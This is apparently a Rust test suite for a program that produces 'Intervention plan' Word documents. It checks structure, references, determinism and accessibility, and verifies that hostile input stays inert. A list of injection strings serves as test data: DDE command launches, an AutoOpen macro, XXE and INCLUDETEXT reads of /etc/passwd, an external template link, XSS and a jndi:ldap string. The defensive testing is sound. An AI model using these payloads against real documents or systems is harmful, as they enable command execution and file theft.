use std::collections::{BTreeMap, BTreeSet};
use std::io::{Cursor, Read};

use roxmltree::{Document, Node};

use crate::harness::{EXAMPLES_DAY, UNPAID_WORK, examples, run};

const WORD: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// What may stand in an element, in the order in which the schema wants it. Word refuses a file that has it otherwise.
const ORDER: [(&str, &str); 24] = [
    ("p", "pPr bookmarkStart r bookmarkEnd"),
    ("pPr", "pStyle keepNext keepLines widowControl numPr pBdr shd tabs spacing ind jc outlineLvl"),
    ("numPr", "ilvl numId"),
    ("pBdr", "top left bottom right"),
    ("rPr", "rStyle rFonts b bCs color sz szCs vertAlign lang"),
    ("tbl", "tblPr tblGrid tr"),
    ("tblPr", "tblStyle tblW tblInd tblBorders tblLayout tblCellMar tblLook tblCaption"),
    ("tblBorders", "top bottom insideH"),
    ("tblCellMar", "top left bottom right"),
    ("tr", "trPr tc"),
    ("tc", "tcPr p"),
    ("tcPr", "tcW shd"),
    ("sectPr", "footerReference endnotePr pgSz pgMar"),
    ("style", "name basedOn next uiPriority semiHidden qFormat pPr rPr tblPr tblStylePr"),
    ("abstractNum", "multiLevelType lvl"),
    ("lvl", "start numFmt lvlText lvlJc pPr"),
    ("num", "abstractNumId lvlOverride"),
    (
        "settings",
        "zoom defaultTabStop characterSpacingControl endnotePr compat themeFontLang decimalSymbol listSeparator",
    ),
    ("endnotePr", "numFmt endnote"),
    ("inline", "extent effectExtent docPr cNvGraphicFramePr graphic"),
    ("wgp", "cNvGrpSpPr grpSpPr wsp"),
    ("wsp", "cNvPr cNvSpPr cNvCnPr spPr txbx bodyPr"),
    ("spPr", "xfrm prstGeom noFill solidFill ln"),
    ("ln", "noFill solidFill prstDash"),
];

type Parts = BTreeMap<String, String>;

fn made(words: &[&str], case: impl AsRef<[u8]>) -> Vec<u8> {
    let all = ["--case", "case.toml", "--format", "docx", "-o", "plan.docx"].iter().chain(words);
    let ran = run(all).env("SOURCE_DATE_EPOCH", EXAMPLES_DAY).file("case.toml", case).done();
    std::fs::read(ran.folder.path().join("plan.docx")).unwrap()
}

/// The parts by their names; all of them are text.
fn parts(file: &[u8]) -> Parts {
    let mut package = zip::ZipArchive::new(Cursor::new(file)).unwrap();
    let mut parts = Parts::new();
    for index in 0..package.len() {
        let mut part = package.by_index(index).unwrap();
        let mut text = String::new();
        part.read_to_string(&mut text).unwrap();
        parts.insert(part.name().unwrap().into_owned(), text);
    }
    parts
}

/// The parts of every example, brief, in full and for the court.
fn all_parts() -> Vec<Parts> {
    let cases = examples().into_iter().map(|case| std::fs::read(case).unwrap());
    cases
        .flat_map(|case| ["brief", "full", "court"].map(|detail| parts(&made(&["--detail", detail], &case))))
        .collect()
}

fn named<'d, 'i>(document: &'d Document<'i>, name: &'static str) -> impl Iterator<Item = Node<'d, 'i>> {
    document.descendants().filter(move |node| node.tag_name().name() == name)
}

/// The values of an attribute in Word's namespace.
fn values(document: &Document<'_>, element: &'static str, attribute: &str) -> Vec<String> {
    let value = |node: Node<'_, '_>| node.attribute((WORD, attribute)).map(str::to_owned);
    named(document, element).filter_map(value).collect()
}

/// The words of the body as they are read, with a bar between paragraphs.
fn words(part: &str) -> String {
    let document = Document::parse(part).unwrap();
    let paragraphs = named(&document, "p").map(|paragraph| {
        let texts = paragraph.descendants().filter(|node| node.has_tag_name((WORD, "t")));
        texts.filter_map(|text| text.text()).collect::<String>()
    });
    paragraphs.collect::<Vec<_>>().join(" | ")
}

#[test]
fn every_part_is_well_formed_and_named_both_ways() {
    for parts in all_parts() {
        let types = Document::parse(&parts["[Content_Types].xml"]).unwrap();
        let typed = named(&types, "Override").map(|node| node.attribute("PartName").unwrap()[1..].to_owned());
        let typed: BTreeSet<String> = typed.collect();
        let mut related = BTreeSet::new();
        for (name, text) in &parts {
            let part = Document::parse(text).unwrap_or_else(|error| panic!("{name}: {error}"));
            let Some(folder) = name.strip_suffix(".rels").and_then(|name| name.split("_rels/").next()) else {
                continue;
            };
            for one in named(&part, "Relationship") {
                assert_eq!(one.attribute("TargetMode"), None, "nothing outside the file is referred to");
                related.insert(format!("{folder}{}", one.attribute("Target").unwrap()));
            }
        }
        let held: BTreeSet<String> =
            parts.keys().filter(|name| !name.ends_with(".rels") && !name.starts_with('[')).cloned().collect();
        assert_eq!(held, typed);
        assert_eq!(held, related);
    }
}

#[test]
fn elements_stand_in_the_order_that_word_wants() {
    for parts in all_parts() {
        for (name, text) in parts.iter().filter(|(name, _)| name.starts_with("word/")) {
            let part = Document::parse(text).unwrap();
            for node in part.descendants() {
                let Some((_, order)) = ORDER.iter().find(|(parent, _)| *parent == node.tag_name().name())
                else {
                    continue;
                };
                let children = node.children().filter(Node::is_element).map(|child| child.tag_name().name());
                let places: Vec<usize> = children
                    .map(|child| {
                        let place = order.split(' ').position(|known| known == child);
                        place.unwrap_or_else(|| panic!("{name}: {child} in {}", node.tag_name().name()))
                    })
                    .collect();
                // Runs and bookmarks of a paragraph may take turns.
                let sorted = if node.has_tag_name((WORD, "p")) {
                    places.iter().skip(1).all(|place| *place > 0)
                } else {
                    places.is_sorted()
                };
                assert!(sorted, "{name}: {} holds {places:?} of {order}", node.tag_name().name());
            }
            for run in named(&part, "r") {
                let properties = run.children().position(|child| child.has_tag_name((WORD, "rPr")));
                assert!(properties.is_none_or(|place| place == 0), "{name}");
            }
            for cell in named(&part, "tc") {
                assert!(cell.last_element_child().unwrap().has_tag_name((WORD, "p")), "{name}");
            }
        }
    }
}

#[test]
fn what_is_referred_to_is_there() {
    for parts in all_parts() {
        let part = |name: &str| Document::parse(&parts[name]).unwrap();
        let (body, styles, numbering, endnotes) = (
            part("word/document.xml"),
            part("word/styles.xml"),
            part("word/numbering.xml"),
            part("word/endnotes.xml"),
        );
        let known: BTreeSet<String> = values(&styles, "style", "styleId").into_iter().collect();
        for document in [&body, &endnotes, &part("word/footer1.xml"), &styles] {
            for element in ["pStyle", "rStyle", "tblStyle", "basedOn", "next"] {
                let used = values(document, element, "val");
                assert!(used.iter().all(|style| known.contains(style)), "{used:?}");
            }
        }
        let lists = values(&numbering, "num", "numId");
        assert!(values(&body, "numId", "val").iter().all(|list| lists.contains(list)));
        let notes = values(&endnotes, "endnote", "id");
        assert_eq!(notes[..2], ["-1", "0"], "the separators come first");
        let mut cited = values(&body, "endnoteReference", "id");
        assert_eq!(cited, notes[2..], "each note is referred to once, in order");
        let marks = values(&body, "bookmarkStart", "id");
        assert_eq!(marks, values(&body, "bookmarkEnd", "id"));
        cited.sort();
        cited.dedup();
        assert_eq!(cited.len(), marks.len());
        let shapes = body.descendants().filter(|node| matches!(node.tag_name().name(), "docPr" | "cNvPr"));
        let shapes: Vec<&str> = shapes.map(|node| node.attribute("id").unwrap()).collect();
        assert_eq!(shapes.len(), shapes.iter().collect::<BTreeSet<_>>().len(), "each shape has its number");
        let relationships = part("word/_rels/document.xml.rels");
        let ids: Vec<&str> =
            named(&relationships, "Relationship").filter_map(|node| node.attribute("Id")).collect();
        let used = body.descendants().filter_map(|node| node.attribute((OFFICE, "id")));
        assert!(used.into_iter().all(|id| ids.contains(&id)));
    }
}

#[test]
fn fields_number_pages_and_repeat_marks_and_do_nothing_else() {
    for parts in all_parts() {
        for text in parts.values() {
            let part = Document::parse(text).unwrap();
            for field in named(&part, "instrText") {
                let says = field.text().unwrap().trim();
                let mark = says.strip_prefix("NOTEREF source").and_then(|rest| rest.strip_suffix(" \\f"));
                let repeats = mark.is_some_and(|number| number.parse::<u32>().is_ok());
                assert!(repeats || matches!(says, "PAGE" | "NUMPAGES"), "{says}");
            }
            for alive in [
                "fldSimple",
                "hyperlink",
                "altChunk",
                "object",
                "pict",
                "control",
                "subDoc",
                "attachedTemplate",
            ] {
                assert_eq!(named(&part, alive).count(), 0, "{alive}");
            }
        }
    }
}

#[test]
fn whoever_does_not_see_it_is_told_all_of_it() {
    let case = std::fs::read(&examples()[0]).unwrap();
    let parts = parts(&made(&[], case));
    let body = Document::parse(&parts["word/document.xml"]).unwrap();
    let picture = named(&body, "docPr").next().unwrap();
    assert!(picture.attribute("descr").unwrap().starts_with("Timeline of 2 steps over 33 weeks"));
    let tables = named(&body, "tbl").count();
    assert_eq!(named(&body, "tblCaption").count(), tables);
    assert_eq!(named(&body, "tblHeader").count(), tables, "the first row of each table is its header");
    let styles = Document::parse(&parts["word/styles.xml"]).unwrap();
    assert_eq!(values(&styles, "lang", "val"), ["en-GB"]);
    assert!(parts["docProps/core.xml"].contains("<dc:title>Intervention plan</dc:title>"));
    assert!(parts["docProps/core.xml"].contains("<dc:language>en-GB</dc:language>"));
    assert!(!parts["docProps/core.xml"].contains("creator"), "no author is made up");
    let headings = values(&body, "pStyle", "val");
    assert_eq!(headings.iter().filter(|style| *style == "Title").count(), 1);
    let first_item = headings.iter().position(|style| style == "Heading2").unwrap();
    assert!(headings[..first_item].contains(&"Heading1".to_owned()), "no level of headings is skipped");
}

#[test]
fn the_same_case_gives_the_same_bytes() {
    for case in examples() {
        let case = std::fs::read(case).unwrap();
        assert_eq!(made(&[], &case), made(&[], &case));
    }
}

/// What is tried on office programs: fields, links, remote parts, macros, formulas, entities, and text that breaks parsers.
const INJECTIONS: [&str; 22] = [
    r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#,
    r#"{ DDE excel "cmd" "/c calc" }"#,
    r#"{HYPERLINK "javascript:alert(1)"}"#,
    r#"{INCLUDEPICTURE "http://example.org/x.png" \d}"#,
    r#"{INCLUDETEXT "file:///etc/passwd"}"#,
    r#"</w:t></w:r><w:fldSimple w:instr="DDEAUTO cmd"/><w:r><w:t>"#,
    r#"</w:t></w:r></w:p><w:altChunk r:id="rId99"/><w:p><w:r><w:t>"#,
    r#"<w:attachedTemplate r:id="rId1"/>"#,
    r#"<Relationship Id="rId1" TargetMode="External" Target="http://example.org/t.dotm"/>"#,
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "<?mso-application progid=\"Word.Document\"?>",
    "<![CDATA[ x ]]> ]]>",
    "<!-- --> -->",
    "&lt;script&gt; &#x3C;script&#x3E; &amp;#60;",
    "Sub AutoOpen() : Shell \"calc\" : End Sub",
    "=cmd|'/c calc'!A0",
    "+1+1 @SUM(1) -2",
    "\\\\evil.example.org\\share\\x https://example.org ftp://example.org mailto:a@example.org",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "${jndi:ldap://example.org/a} {{7*7}} %n%s",
    "\u{5e9}\u{5dc}\u{5d5}\u{5dd} \u{1f600} \u{627}\u{644}\u{633}\u{644}\u{627}\u{645} a\u{301}",
    "wwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwww",
];

/// The document of a case in which a reason is this text, and the reference as much of it as one may have.
fn with_text(text: &str) -> Parts {
    let reference: String = text.chars().take(64).collect();
    let case = format!("ref = {}\n{UNPAID_WORK}", serde_json::Value::from(reference.trim()));
    parts(&made(&["--accept", &format!("unpaid-work={text}")], case))
}

/// The names of all elements and attributes, in order.
fn skeleton(part: &str) -> Vec<String> {
    let document = Document::parse(part).unwrap();
    let elements = document.descendants().filter(Node::is_element);
    let of = |node: Node<'_, '_>| {
        let attributes: Vec<&str> = node.attributes().map(|one| one.name()).collect();
        format!("{} {}", node.tag_name().name(), attributes.join(" "))
    };
    elements.map(of).collect()
}

#[test]
fn no_text_of_a_case_comes_alive() {
    let plain = with_text("A plain text.");
    for text in INJECTIONS {
        let parts = with_text(text);
        assert_eq!(parts.keys().collect::<Vec<_>>(), plain.keys().collect::<Vec<_>>());
        for (name, part) in &parts {
            assert_eq!(skeleton(part), skeleton(&plain[name]), "{name} is built as with plain text: {text}");
        }
        let said = words(&parts["word/document.xml"]);
        assert!(said.contains(text), "it stands as it was written: {text}: {said}");
    }
}

#[test]
fn a_plan_with_nothing_in_it_is_a_document_too() {
    let parts = parts(&made(&[], "as-of = 2022-12-01\nage = 17\n"));
    let said = words(&parts["word/document.xml"]);
    assert!(said.starts_with("Intervention plan | "), "{said}");
    assert!(!parts["word/document.xml"].contains("<w:drawing>"));
}
